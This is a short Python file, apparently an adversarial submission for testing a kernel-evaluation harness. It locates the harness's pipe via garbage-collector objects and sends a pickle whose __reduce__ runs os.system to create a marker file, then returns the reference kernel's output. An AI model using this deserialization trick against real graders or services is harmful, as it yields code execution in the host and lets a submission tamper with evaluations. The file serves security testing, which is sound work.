# Sends the parent a pickle whose unpickling would call os.system to create /tmp/adv/pickle_payload.marker, then answers correctly.
import gc
import os
import pickle

from reference.task import ref_kernel

MARKER = "/tmp/adv/pickle_payload.marker"


class _Payload:
    def __reduce__(self):
        return os.system, (f"mkdir -p /tmp/adv && touch {MARKER}",)


for _obj in gc.get_objects():
    if type(_obj).__name__ == "Stage" and hasattr(_obj, "conn"):
        _obj.conn.send_bytes(pickle.dumps({"kind": "text", "text": _Payload()}))
        break


def custom_kernel(data):
    return ref_kernel(data)
